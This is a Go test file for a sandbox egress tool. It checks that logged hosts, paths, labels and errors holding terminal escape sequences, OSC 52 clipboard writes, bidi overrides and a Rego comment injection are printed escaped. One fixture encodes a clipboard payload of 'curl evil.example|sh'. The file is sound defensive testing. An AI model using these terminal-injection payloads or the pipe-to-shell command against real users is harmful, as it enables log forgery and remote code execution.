//go:build !airlock_front

package main

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/spf13/cobra"

	"github.com/airlock-dev/airlock/api"
	"github.com/airlock-dev/airlock/audit"
	"github.com/airlock-dev/airlock/client"
	"github.com/airlock-dev/airlock/termtext"
	"github.com/airlock-dev/airlock/test/roottest"
)

// hostile is text a sandbox chooses for a value airlock logs and prints: CSI
// erase-line and cursor-up, a carriage return, an OSC 8 hyperlink and an OSC
// 52 clipboard write, a right-to-left override, an isolate and a mark, a C1
// CSI as a rune and as a raw byte, zero-width and byte-order characters, a
// line separator, a byte of invalid UTF-8, a tab, a newline and a backslash.
const hostile = "\x1b[2K\x1b[1A\rpypi.org 200\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\\x1b]52;c;ZXZpbA==\a" +
	"\u202egnp\u2066\u200f\u009b2K\x9b2K\u200b\ufeff\u2028\xff\t\n\\"

// shownHostile is how hostile's first bytes must appear: escaped, visible.
const shownHostile = `\x1b[2K\x1b[1A\rpypi.org 200`

// checkShown fails the test unless out holds nothing a terminal acts on or
// that hides text: every rune printable, newlines between lines aside.
func checkShown(t *testing.T, what, out string) {
	t.Helper()
	for i := 0; i < len(out); {
		r, size := utf8.DecodeRuneInString(out[i:])
		if r == utf8.RuneError && size == 1 || r != '\n' && r != '\\' && !termtext.Safe(r) {
			t.Errorf("%s: raw %q at offset %d: ...%q...", what, out[i:i+size], i, out[max(0, i-30):min(len(out), i+30)])
			return
		}
		i += size
	}
}

// hostileLog writes, through audit's writer, records whose every printed
// field is hostile, and returns the file.
func hostileLog(t *testing.T) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "audit.jsonl")
	w, err := audit.New(audit.Config{File: path}, nil)
	if err != nil {
		t.Fatal(err)
	}
	headers, _ := json.Marshal([]string{"X-" + hostile})
	recs := []*audit.Record{
		{Sandbox: "sb-" + hostile, Kind: audit.KindHTTP, Decision: audit.DecisionDeny, Mode: "enforce",
			Reasons: []audit.Reason{{ID: "default_deny" + hostile, Msg: "no rule allows " + hostile}},
			Host:    "evil.example" + hostile, Port: 443, Method: "GET" + hostile, Path: "/" + hostile, Query: []string{"k" + hostile},
			Extra: map[string]json.RawMessage{"header_names": headers}},
		{Sandbox: "sb-1", Kind: audit.KindDNS, Decision: audit.DecisionDeny, Reasons: []audit.Reason{{ID: "default_deny", Msg: "m"}},
			Host: hostile + ".example", Port: 53, QName: hostile + ".example", QType: "TXT" + hostile, RCode: "REFUSED"},
		{Sandbox: "sb-1", Kind: audit.KindExec, Decision: audit.DecisionAllow, Exec: &audit.Exec{Phase: audit.ExecStart, Argv: []string{"sh", "-c", hostile}}},
		{Sandbox: "sb-1", Kind: audit.KindConnect, Decision: audit.DecisionError, Host: "pypi.org", Port: 443, Error: "dial: " + hostile},
		// A report-mode refusal suggest learns from: its path reaches the
		// suggested policy's README and tests.
		{Sandbox: "sb-1", Kind: audit.KindHTTP, Decision: audit.DecisionDeny, Mode: "report",
			Reasons: []audit.Reason{{ID: "default_deny", Msg: "no rule allows GET"}},
			Host:    "api.example-ai.dev", Port: 443, Method: "GET", Path: "/v1/" + hostile},
	}
	for _, r := range recs {
		if err := w.Log(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return path
}

// TestHostileTextIsEscaped pins the bug where a logged path, host, DNS name,
// reason, argv, sandbox id or error holding ESC sequences, CR, bidi overrides
// or C1 bytes reached the terminal raw from audit query, tail, the report,
// policy suggest and replay, sandbox logs and the run summary, where it could
// erase lines and forge records. Every human-facing output is now escaped;
// query --format json is still byte for byte the record.
func TestHostileTextIsEscaped(t *testing.T) {
	logPath := hostileLog(t)
	fileBytes, err := os.ReadFile(logPath)
	if err != nil {
		t.Fatal(err)
	}
	fileLines := strings.Split(strings.TrimSuffix(string(fileBytes), "\n"), "\n")

	for _, args := range [][]string{
		{"query", "--file", logPath},
		{"query", "--file", logPath, "--format", "csv"},
		{"query", "--file", logPath, "--by", "host"},
		{"query", "--file", logPath, "--by", "reason"},
		{"query", "--file", logPath, "--by", "sandbox"},
		{"query", "--file", logPath, "--by", "host", "--format", "csv"},
		{"tail", "-n", "-1", logPath},
	} {
		out, err := runAudit(t, args...)
		if err != nil {
			t.Fatalf("audit %s: %v", strings.Join(args, " "), err)
		}
		what := "audit " + strings.Join(args[:len(args)-1], " ")
		checkShown(t, what, out)
		if args[0] == "query" && len(args) == 3 && !strings.Contains(out, shownHostile) {
			t.Errorf("%s: got\n%s\nwant the hostile value shown escaped (%s)", what, out, shownHostile)
		}
	}

	// The table shows each field escaped, one record a row.
	out, _ := runAudit(t, "query", "--file", logPath)
	if rows := strings.Count(out, "\n"); rows != len(fileLines)+1 {
		t.Errorf("query table: got %d lines, want a header and %d records:\n%s", rows, len(fileLines), out)
	}
	for _, want := range []string{`sb-\x1b[2K`, `evil.example\x1b[2K`, `GET\x1b[2K`, `/\x1b[2K`, `exec start sh -c \x1b[2K`, `dial: \x1b[2K`,
		// The writer logged the invalid bytes as U+FFFD.
		`\u202egnp\u2066\u200f\u009b2K` + "\ufffd" + `2K\u200b\ufeff\u2028` + "\ufffd" + `\t\n\\`} {
		if !strings.Contains(out, want) {
			t.Errorf("query table: got\n%s\nwant it to contain %s", out, want)
		}
	}

	// tail keeps JSON: each line decodes to what the file's line does.
	out, _ = runAudit(t, "tail", "-n", "-1", logPath)
	tailLines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
	if len(tailLines) != len(fileLines) {
		t.Fatalf("tail: got %d lines, want %d", len(tailLines), len(fileLines))
	}
	for i := range fileLines {
		var want, got any
		if err := json.Unmarshal([]byte(fileLines[i]), &want); err != nil {
			t.Fatal(err)
		}
		if err := json.Unmarshal([]byte(tailLines[i]), &got); err != nil {
			t.Fatalf("tail line %d: %v: %s", i+1, err, tailLines[i])
		}
		if !reflect.DeepEqual(got, want) {
			t.Errorf("tail line %d decodes to\n%v\nwant\n%v", i+1, got, want)
		}
	}

	// JSON stays exact: every line is the file's line, byte for byte, but
	// for U+FFFD, which the writer spells \ufffd and query's encoder (as
	// encoding/json) writes as the character.
	out, _ = runAudit(t, "query", "--file", logPath, "--format", "json")
	want := strings.ReplaceAll(strings.Join(fileLines, "\n"), `\ufffd`, "\ufffd")
	if got := strings.TrimSuffix(out, "\n"); got != want {
		t.Errorf("query --format json: got\n%q\nwant the file's lines\n%q", got, want)
	}
	if !strings.Contains(out, "\u202e") {
		t.Errorf("query --format json: got %q, want the values unaltered", out)
	}

	// The report page: what the template renders from the log is escaped;
	// the embedded JSON (the data) is exact and never shown as text.
	out, err = runAudit(t, "report", logPath)
	if err != nil {
		t.Fatal(err)
	}
	page := regexp.MustCompile(`(?s)<script type="application/json" id="report-data">.*?</script>`).ReplaceAllString(out, "")
	if page == out {
		t.Fatal("report: no report-data element")
	}
	checkShown(t, "audit report (page outside its data)", page)
}

// TestHostileTextPolicyLearn: suggest's output, README and the comments of
// its tests, and replay's text, show a hostile path escaped; the suggested
// policy still loads and its tests pass.
func TestHostileTextPolicyLearn(t *testing.T) {
	logPath := hostileLog(t)
	dir := filepath.Join(t.TempDir(), "suggested")
	out, errOut, code := runPolicy(t, "", "suggest", "--from", logPath, "--out", dir)
	if code != 0 {
		t.Fatalf("suggest: exit %d\n%s\n%s", code, out, errOut)
	}
	checkShown(t, "policy suggest stdout", out)
	checkShown(t, "policy suggest stderr", errOut)
	for _, name := range []string{"README.md", "suggested_test.rego", "data.json"} {
		b, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		// The tests' bodies are indented with a tab.
		checkShown(t, "policy suggest "+name, strings.ReplaceAll(string(b), "\n\t", "\n"))
	}
	if out, errOut, code := runPolicy(t, "", "test", dir); code != 0 {
		t.Fatalf("policy test of the suggestion: exit %d\n%s\n%s", code, out, errOut)
	}
	out, errOut, code = runPolicy(t, "", "replay", "--policy", dir, "--from", logPath)
	if code != exitNewlyAllowed {
		t.Fatalf("replay: exit %d, want %d\n%s\n%s", code, exitNewlyAllowed, out, errOut)
	}
	checkShown(t, "policy replay", out+errOut)
	if !strings.Contains(out, `/v1/\x1b[2K`) {
		t.Errorf("replay: got\n%s\nwant the path shown escaped", out)
	}
}

// TestHostileTextRunSummary: run's egress summary (in-process, from the
// tally; through a daemon, from the sandbox's counters) escapes hosts, kinds
// and the sandbox id.
func TestHostileTextRunSummary(t *testing.T) {
	tally := audit.NewTally()
	for _, r := range []*audit.Record{
		{Kind: audit.KindHTTP, Decision: audit.DecisionDeny, Host: "evil.example" + hostile, Port: 443},
		{Kind: audit.KindDNS, Decision: audit.DecisionDeny, Host: hostile, Port: 53},
		{Kind: audit.KindConnect + hostile, Decision: audit.DecisionAllow, Host: "pypi.org", Port: 443},
	} {
		if err := tally.Log(r); err != nil {
			t.Fatal(err)
		}
	}
	var b bytes.Buffer
	tally.WriteSummary(&b, 12)
	checkShown(t, "run's egress summary", b.String())
	if !strings.Contains(b.String(), `evil.example\x1b[2K`) {
		t.Errorf("run's egress summary: got\n%s\nwant the host shown escaped", b.String())
	}

	b.Reset()
	writeDaemonSummary(&b, &api.ExecResult{TimedOut: true}, &api.Sandbox{ID: "sb-" + hostile,
		Egress: api.Egress{Allowed: 1, Denied: 2, DeniedByKind: map[string]int64{"http" + hostile: 2}}})
	checkShown(t, "run's summary through a daemon", b.String())
}

// TestHostileTextSandboxCommands: a label another API user set, a decision
// record's fields and an error quoting a sandbox's file name reach sandbox
// ls, inspect, logs and cp escaped.
func TestHostileTextSandboxCommands(t *testing.T) {
	srv, run := fakeCLI(t)
	id := mustCreate(t, run, "--label", "team="+hostile, "--label", "x"+hostile+"=1")
	for _, args := range [][]string{{"sandbox", "ls"}, {"sandbox", "inspect", id}} {
		out, errOut, code := run("", args...)
		if code != 0 {
			t.Fatalf("%s: exit %d: %s", args, code, errOut)
		}
		checkShown(t, strings.Join(args[:2], " "), out+errOut)
		if !strings.Contains(out, `team=\x1b[2K`) {
			t.Errorf("%s: got\n%s\nwant the label shown escaped", args, out)
		}
	}

	done := make(chan string, 1)
	go func() {
		out, errOut, _ := run("", "sandbox", "logs", "-f", id)
		done <- out + errOut
	}()
	waitSubscribed(t, srv, id)
	srv.Emit(id, client.EventDecision, api.Event{Record: map[string]any{
		"ts": "2025-01-02T03:04:05Z", "kind": "http" + hostile, "decision": "deny" + hostile, "host": "evil.example" + hostile, "port": 443,
		"method": "GET", "path": "/" + hostile, "reasons": []map[string]any{{"id": "default_deny" + hostile}}}})
	srv.Emit(id, client.EventDecision, api.Event{Record: map[string]any{"kind": 7, "host": hostile}})
	if _, _, code := run("", "sandbox", "rm", id); code != 0 {
		t.Fatal("rm failed")
	}
	out := <-done
	checkShown(t, "sandbox logs -f", out)
	if !strings.Contains(out, `evil.example\x1b[2K`) || !strings.Contains(out, `/\x1b[2K`) {
		t.Errorf("sandbox logs -f: got\n%s\nwant the decision shown escaped", out)
	}
}

// TestHostileTextInErrors: an error that quotes a value from elsewhere (a
// path, a host) is printed escaped, each line of a joined error on its own
// line.
func TestHostileTextInErrors(t *testing.T) {
	for _, tc := range []struct {
		name string
		err  error
	}{
		{"plain error", fmt.Errorf("dial %s: refused", hostile)},
		{"exit error", &exitError{Code: 1, Msg: "no sandbox " + hostile}},
		{"joined errors", &exitError{Code: 1, Msg: errors.Join(errors.New("a: "+hostile), errors.New("b: gone")).Error()}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			root := &cobra.Command{Use: "airlock", SilenceUsage: true, SilenceErrors: true}
			root.AddCommand(&cobra.Command{Use: "fail", RunE: func(*cobra.Command, []string) error { return tc.err }})
			var errb bytes.Buffer
			root.SetErr(&errb)
			root.SetOut(&errb)
			if code := execute(root, []string{"fail"}); code == 0 {
				t.Fatal("got exit 0")
			}
			checkShown(t, "error", errb.String())
			if !strings.Contains(errb.String(), shownHostile) {
				t.Errorf("got %q, want the value shown escaped", errb.String())
			}
		})
	}
}

// TestRootHostileRequestEscaped runs a real sandbox whose curl sends, through
// the gateway, a request whose path (percent-decoded by the gateway) and
// query key hold CSI erase-line and cursor-up, a carriage return, a
// right-to-left override, a C1 CSI and an isolate: the audit log keeps them
// exactly, and audit query, tail and run's summary show them escaped. The
// target is loopback: policy denies it and the address guard refuses it, so
// even a broken gateway could reach nothing but this machine's discard port.
func TestRootHostileRequestEscaped(t *testing.T) {
	roottest.Require(t)
	auditPath := filepath.Join(t.TempDir(), "audit.jsonl")
	target := "http://127.0.0.1:9/%1b%5b2K%1b%5b1A%0d%e2%80%ae%c2%9b2K%e2%81%a6x?k%1b%5b2K=v"
	stderr, code := runRunCmd(t, "--no-daemon", "--audit", auditPath, "--",
		"curl", "-sS", "--max-time", "20", "--noproxy", "", "-x", "http://127.0.0.1:3128", "-o", "/dev/null", "-w", "%{http_code}", target)
	if code != 0 {
		t.Fatalf("run: exit %d: %s", code, stderr)
	}
	checkShown(t, "run's stderr", stderr)
	t.Logf("run: %s", stderr)

	var logged *audit.Record
	err := audit.Query(context.Background(), []string{auditPath}, audit.Filter{Kind: audit.KindHTTP}, func(r *audit.Record) error {
		logged = r
		return nil
	})
	if err != nil || logged == nil {
		t.Fatalf("no http record in the log (%v)", err)
	}
	if want := "/\x1b[2K\x1b[1A\r\u202e\u009b2K\u2066x"; logged.Path != want || logged.Decision != audit.DecisionDeny {
		t.Fatalf("logged %s path %q, want a denial of %q", logged.Decision, logged.Path, want)
	}
	for _, args := range [][]string{{"query", "--file", auditPath}, {"query", "--file", auditPath, "--by", "host"}, {"tail", auditPath}} {
		out, err := runAudit(t, args...)
		if err != nil {
			t.Fatalf("audit %s: %v", args, err)
		}
		checkShown(t, "audit "+args[0], out)
	}
	out, _ := runAudit(t, "query", "--file", auditPath, "--kind", "http")
	t.Logf("audit query:\n%s", out)
	if !strings.Contains(out, `GET /\x1b[2K\x1b[1A\r\u202e\u009b2K\u2066x`) {
		t.Errorf("audit query: got\n%s\nwant the path shown escaped", out)
	}
}

// TestHostileFileNameInCpError: a file a sandbox names with an OSC 52
// clipboard write and a cursor move reaches the error `sandbox cp` prints
// when the copy cannot place it (a local directory is in the way); the
// error shows the name escaped.
func TestHostileFileNameInCpError(t *testing.T) {
	srv, run := fakeCLI(t)
	id := mustCreate(t, run)
	name := "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\a\x1b[1A\x1b[2Kok\u202e"
	if err := os.MkdirAll(filepath.Join(srv.Dir(id), "out"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(srv.Dir(id), "out", name), []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}
	dst := t.TempDir()
	if err := os.MkdirAll(filepath.Join(dst, "out", name), 0o755); err != nil {
		t.Fatal(err)
	}
	_, errOut, code := run("", "sandbox", "cp", id+":out", dst)
	if code == 0 {
		t.Fatalf("cp over a directory: got exit 0, %q", errOut)
	}
	checkShown(t, "sandbox cp's error", errOut)
	if !strings.Contains(errOut, `\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07\x1b[1A\x1b[2Kok\u202e`) {
		t.Errorf("got %q, want the file's name shown escaped", errOut)
	}
}

// TestPolicySuggestHostilePath: a path with a byte-order mark (a request for
// /%EF%BB%BF) made policy suggest fail for everyone (the generated test's
// comment carried it raw: "rego_parse_error: illegal byte-order mark"); a
// path with a carriage return could rewrite the comment on a terminal (a tag
// character above U+FFFF must still round-trip through Rego's JSON). The
// comment is escaped now, and the test the record became passes.
func TestPolicySuggestHostilePath(t *testing.T) {
	path := filepath.Join(t.TempDir(), "audit.jsonl")
	w, err := audit.New(audit.Config{File: path}, nil)
	if err != nil {
		t.Fatal(err)
	}
	err = w.Log(&audit.Record{Sandbox: "sb-1", Kind: audit.KindHTTP, Decision: audit.DecisionDeny, Mode: "report",
		Reasons: []audit.Reason{{ID: "default_deny", Msg: "m"}}, Host: "api.example-ai.dev", Port: 443, Method: "GET",
		Path: "/\ufeffv1\rtest_pwned if { true }\U000e0041"})
	if err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	dir := filepath.Join(t.TempDir(), "suggested")
	if out, errOut, code := runPolicy(t, "", "suggest", "--from", path, "--out", dir); code != 0 {
		t.Fatalf("suggest: exit %d\n%s\n%s", code, out, errOut)
	}
	out, errOut, code := runPolicy(t, "", "test", dir)
	if code != 0 || strings.Contains(out, "pwned") || !strings.Contains(out, "test_allowed_1") {
		t.Fatalf("policy test: exit %d\n%s\n%s", code, out, errOut)
	}
	b, _ := os.ReadFile(filepath.Join(dir, "suggested_test.rego"))
	if !strings.Contains(string(b), `# seq 1: http api.example-ai.dev:443 GET /\ufeffv1\rtest_pwned if { true }\U000e0041`) {
		t.Errorf("suggested_test.rego: got\n%s\nwant the path escaped in its comment", b)
	}
}

// TestPolicyEvalReasonEscaped: a Rego rule's reason message quotes the input
// (the default policy's default_deny names the method); policy eval prints
// it escaped, and its JSON keeps it exact.
func TestPolicyEvalReasonEscaped(t *testing.T) {
	method := "P\u202eTSO\x1b[2K\x1b]52;c;ZXZpbA==\a"
	in, _ := json.Marshal(map[string]any{"kind": "http", "sandbox": map[string]any{"id": "sb-1"},
		"destination": map[string]any{"host": "pypi.org", "port": 443}, "http": map[string]any{"method": method, "scheme": "https", "path": "/"}})
	out, errOut, code := runPolicy(t, string(in), "eval", "--input", "-")
	if code != 0 {
		t.Fatalf("eval: exit %d\n%s\n%s", code, out, errOut)
	}
	checkShown(t, "policy eval's reasons", errOut)
	if want := `reason default_deny: no rule allows P\u202eTSO\x1b[2K\x1b]52;c;ZXZpbA==\x07 to pypi.org`; !strings.Contains(errOut, want) {
		t.Errorf("got %q, want it to contain %q", errOut, want)
	}
	var d struct {
		Reasons []struct{ Msg string } `json:"reasons"`
	}
	if err := json.Unmarshal([]byte(out), &d); err != nil || len(d.Reasons) == 0 || !strings.Contains(d.Reasons[0].Msg, method) {
		t.Errorf("eval's JSON: got %s (%v), want the message exact", out, err)
	}
}
